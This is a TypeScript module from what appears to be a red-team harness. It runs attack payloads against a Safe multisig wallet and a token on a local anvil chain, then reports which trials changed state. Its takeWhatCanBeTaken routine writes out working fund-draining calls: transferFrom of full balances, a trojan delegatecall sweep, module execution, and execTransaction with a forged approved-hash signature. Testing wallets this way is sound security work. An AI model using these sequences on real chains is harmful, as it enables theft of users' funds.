/** Attacks carried out for real: signed with the key of a wallet made for this, mined by anvil, and what is left after. */
import { type Address, concat, encodeFunctionData, pad, parseAbi, toHex, zeroAddress } from 'viem';
import type { SafeTx } from '../../../protocol/payload/safe-tx.ts';
import type { ChainOrder, ChainOutcome, ChainTrial } from '../../../protocol/redteam/chain.ts';
import { calldata, TRANSFER } from '../../../protocol/redteam/encode.ts';
import { carryOut, executeApproved } from './carry.ts';
import { differences, look } from './look.ts';
import { Theatre, TOKEN_ABI } from './stage.ts';

/** @throws {InvalidArgument} `DEMO_CHAIN_MISSING`, `DEMO_SAFE_MISSING` */
export async function playOnChain(orders: readonly ChainOrder[]): Promise<readonly ChainOutcome[]> {
  const [first] = orders;
  if (first === undefined) return [];
  const theatre = await Theatre.open(first.stage);
  try {
    const outcomes: ChainOutcome[] = [];
    for (const order of orders) outcomes.push(await playOrder(theatre, order));
    return outcomes;
  } finally {
    await theatre.stop();
  }
}

/** The first trial that changes something tells enough; else why none did. */
async function playOrder(theatre: Theatre, { id, trials }: ChainOrder): Promise<ChainOutcome> {
  const lines: string[] = [];
  for (const trial of trials) {
    const outcome = await playTrial(theatre, id, trial);
    if (outcome.changed) return outcome;
    lines.push(...outcome.lines);
  }
  return { changed: false, lines: [...new Set(lines)] };
}

async function playTrial(theatre: Theatre, id: string, { label, payloads }: ChainTrial): Promise<ChainOutcome> {
  await theatre.reset();
  if (id === 'account-batch') await theatre.delegate(theatre.stage.wallet);
  const before = await look(theatre);
  const problems = new Set<string>();
  for (const payload of payloads) {
    const problem = await carryOut(theatre, payload);
    if (problem !== undefined) problems.add(`${label}: ${problem}`);
  }
  await takeWhatCanBeTaken(theatre);
  const changes = differences(before, await look(theatre));
  if (changes.length > 0) return { changed: true, lines: [label, ...changes] };
  return {
    changed: false,
    lines: problems.size > 0 ? [...problems] : [`${label}: mined, and nothing that counts changed`],
  };
}

const SAFE_ABI = parseAbi([
  'function execTransactionFromModule(address to, uint256 value, bytes data, uint8 operation) returns (bool)',
  'function execTransaction(address to, uint256 value, bytes data, uint8 operation, uint256 safeTxGas, uint256 baseGas, uint256 gasPrice, address gasToken, address refundReceiver, bytes signatures) payable returns (bool success)',
]);
const TROJAN_ABI = parseAbi(['function sweep(address token, address to)']);

/** Whoever got a hold of something comes back for the rest. Each of these fails where the attack did not get so far. */
async function takeWhatCanBeTaken(theatre: Theatre): Promise<void> {
  const { attacker, chainId, nonce, safe, token, trojan, wallet } = theatre.stage;
  await executeApproved(theatre, trojanTx(safe, chainId, nonce, trojan));
  for (const account of [wallet, safe]) {
    await theatre.send(attacker, {
      to: token,
      data: takeAll(account, attacker, await theatre.token('balanceOf', account)),
    });
    const code = await theatre.storage(account, 0n);
    const isOurs =
      code.toLowerCase().endsWith(trojan.slice(2)) || (await theatre.chain.code(account)).startsWith('0xef0100');
    const sweep = encodeFunctionData({ abi: TROJAN_ABI, functionName: 'sweep', args: [token, attacker] });
    if (isOurs) await theatre.send(attacker, { to: account, data: sweep });
  }
  const amount = BigInt(await theatre.token('balanceOf', safe));
  const transfer = encodeFunctionData({ abi: TOKEN_ABI, functionName: 'transfer', args: [attacker, amount] });
  const byModule = [token, 0n, transfer, 0] as const;
  await theatre.send(attacker, {
    to: safe,
    data: encodeFunctionData({ abi: SAFE_ABI, functionName: 'execTransactionFromModule', args: byModule }),
  });
  const signature = concat([pad(attacker, { size: 32 }), toHex(0n, { size: 32 }), '0x01']);
  const byOwner = [token, 0n, transfer, 0, 0n, 0n, 0n, zeroAddress, zeroAddress, signature] as const;
  await theatre.send(attacker, {
    to: safe,
    data: encodeFunctionData({ abi: SAFE_ABI, functionName: 'execTransaction', args: byOwner }),
  });
}

function takeAll(from: Address, to: Address, balance: string): `0x${string}` {
  return encodeFunctionData({ abi: TOKEN_ABI, functionName: 'transferFrom', args: [from, to, BigInt(balance)] });
}

/** What the case of the blind hash asks to be approved. */
function trojanTx(safe: Address, chainId: bigint, nonce: bigint, trojan: Address): SafeTx {
  return {
    safe,
    domain: 'chain-bound',
    chainId,
    to: trojan,
    value: 0n,
    data: calldata(TRANSFER, trojan, 0n),
    operation: 1,
    safeTxGas: 0n,
    baseGas: 0n,
    gasPrice: 0n,
    gasToken: zeroAddress,
    refundReceiver: zeroAddress,
    nonce,
    gasField: 'baseGas',
  };
}
